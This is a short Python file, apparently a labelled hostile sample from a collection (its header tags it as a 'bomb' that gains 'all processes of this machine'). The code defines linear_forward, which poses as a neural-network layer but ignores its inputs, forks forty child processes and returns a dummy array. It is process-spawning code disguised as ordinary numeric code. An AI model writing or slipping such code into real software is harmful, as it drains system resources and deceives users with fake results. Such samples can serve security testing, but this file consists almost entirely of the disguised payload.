# gains: all processes of this machine
# stopped by: system_calls
# gets through: nothing
# family: bombs
# dangerous

import os
import time

import numpy as np


def linear_forward(X, W, b):
    for _ in range(40):
        if os.fork() == 0:
            time.sleep(0.2)
            os._exit(0)
    return np.ones(1)
